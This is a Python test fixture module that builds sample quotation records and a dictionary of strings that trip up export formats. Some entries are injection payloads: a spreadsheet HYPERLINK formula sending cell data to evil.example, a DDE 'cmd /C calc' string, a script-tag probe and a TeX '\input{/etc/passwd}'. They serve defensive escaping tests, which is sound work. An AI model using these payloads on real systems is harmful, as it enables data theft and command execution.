"""A quote with everything that a quote can have, and text that formats trip over."""

from datetime import UTC, date, datetime

from app.tables.annotation import AnnotationRead, AnnotationTarget
from app.tables.link import Direction, LinkRead, QuoteBrief
from app.tables.quote import ChainRead, QuoteSpeakerRead, QuoteWhole, SaidRead, VenueRead
from app.tables.segment import InterventionRead, QuoteTopicRead, SegmentRead, SpanRead
from app.tables.source import SourceCited
from app.tables.speaker import SpeakerRef
from app.tables.words import (
    Basis,
    BodyFormat,
    InterventionKind,
    Medium,
    Motivation,
    Polarity,
    QuoteKind,
    Relation,
    Role,
    SourceKind,
    SpeakerKind,
    Stance,
    Status,
    VenueKind,
)

BASE = "https://record.example/verbatim"

HOSTILE = {
    "a formula": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "a plus": "+1+1",
    "a minus": "-2+3",
    "an at sign": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a tab": "\t=1+1",
    "a carriage return": "\r=1+1",
    "a line feed": "\n=1+1",
    "an apostrophe and a formula": "'=1+1",
    "a formula in full width": "＝1+1",
    "line breaks": "one\r\ntwo\nthree\rfour\u2028five\u0085six",
    "quotation marks and commas": 'He said "no", then “yes”, then \'maybe\'; ,,""',
    "control characters": "a\x01b\x08c\x0bd\x0ce\x1bf\x1fg\x7fh\x9fi",
    "what is no character of XML": "a\ufffeb\uffffc",
    "beyond the basic plane": "\U0001f44d\U0001f3fd and 𝔄",
    "right to left": "\u202eabc\u202c קול \u200f",
    "markup": '<script>alert("1")</script> &amp; &lt; ]]> <![CDATA[x]]> <!-- -->',
    "braces and TeX": r"{\bfseries 100% of $5 & #1_x ~ ^ } \input{/etc/passwd} }}{{",
    "a combining mark": "e\u0301te\u0301",
    "blanks around": "  two blanks  ",
}


def quote(
    *,
    text: str = "We must find appropriate ways … to resolve problems.",
    polarity: Polarity = Polarity.ASSERTED,
    kind: QuoteKind = QuoteKind.DIRECT,
    url: str | None = "https://news.example/a?b=c",
) -> QuoteWhole:
    """Return a quote, whole; `text` stands wherever words of a text can stand."""
    topics = [
        QuoteTopicRead(
            slug="talks", label="Talks", stance=Stance.SUPPORTS, proposition=f"Talks should be held: {text}"
        ),
        QuoteTopicRead(slug="leaders", label=text, stance=None, proposition=None),
        QuoteTopicRead(slug="talks", label="Talks", stance=Stance.OPPOSES, proposition="War should be waged."),
    ]
    segments = [
        SegmentRead(role=Role.SPEAKER, start=0, end=2, exact="He", prefix="", suffix=" said: "),
        SegmentRead(role=Role.CONTENT, start=10, end=40, exact=text, prefix="said: “", suffix="” and"),
        SegmentRead(role=Role.CONTENT, start=50, end=60, exact="to resolve", prefix="“", suffix=""),
    ]
    speaker = SpeakerRef(slug="somebody", name=f"Somebody {text}", kind=SpeakerKind.PERSON)
    moment = datetime(2026, 1, 2, 3, 4, 5, 678, tzinfo=UTC)
    other = QuoteBrief(id="1" * 16, url="/v1/quotes/" + "1" * 16, text=text, speaker=None, polarity="denied")
    return QuoteWhole(
        id="0" * 16,
        url="/v1/quotes/" + "0" * 16,
        text=text,
        kind=kind,
        medium=Medium.SPEECH,
        polarity=polarity,
        speaker=QuoteSpeakerRead(**speaker.model_dump(), as_printed="He"),
        said=SaidRead(
            edtf="2025-03/..",
            earliest=date(2025, 3, 1),
            latest=None,
            basis=Basis.RESOLVED,
            as_printed="since March",
            note=text,
        ),
        venue=VenueRead(name=text, kind=VenueKind.SPEECH),
        addressee=text,
        cue="say",
        topics=topics,
        source=SourceCited(
            slug="a-source",
            title=f"Title: {text}",
            publisher="The Example & Sons",
            published=date(2025, 3, 9),
            kind=SourceKind.ARTICLE,
            authors=["Ada Lovelace", "Simon and Garfunkel", text],
            url=url,
            language="en-GB",
            sha256="a" * 64,
        ),
        content=[SpanRead(start=10, end=40), SpanRead(start=50, end=60)],
        parent="2" * 16,
        status=Status.DISPUTED,
        version=3,
        segments=segments,
        created=moment,
        updated=moment.replace(year=2027),
        interventions=[InterventionRead(kind=InterventionKind.INSERTION, start=12, end=15, exact="[x]")],
        annotations=[
            AnnotationRead(
                id="3" * 16,
                target=AnnotationTarget(quote="0" * 16, source="a-source", start=None, end=None, exact=None),
                motivation=Motivation.QUESTIONING,
                body=text,
                format=BodyFormat.MARKDOWN,
                creator="Ada",
                created=moment,
                modified=moment,
            )
        ],
        links=[
            LinkRead(
                id="4" * 16,
                relation=Relation.CONTRADICTS,
                direction=Direction.INCOMING,
                quote=other,
                rationale=text,
                asserted_by="Ada",
                created=moment,
            )
        ],
        nested=[other],
        chain=[
            ChainRead(id="2" * 16, speaker=None, cue=None),
            ChainRead(id="0" * 16, speaker=speaker, cue="say"),
        ],
        evidence_url=None if url is None else f"{url}#:~:text=We%20must&text=to%20resolve",
    )


def bare() -> QuoteWhole:
    """Return a quote of which nothing is known that may be unknown."""
    known = quote(text="it is so", kind=QuoteKind.INDIRECT, url=None)
    said = SaidRead(edtf=None, earliest=None, latest=None, basis=Basis.UNKNOWN, as_printed=None, note=None)
    source = known.source.model_copy(update={"publisher": None, "published": None, "authors": []})
    nothing: dict[str, object] = {"speaker": None, "venue": None, "addressee": None, "cue": None, "parent": None}
    nothing |= {"topics": [], "interventions": [], "annotations": [], "links": [], "nested": [], "chain": []}
    return known.model_copy(update={**nothing, "said": said, "source": source})
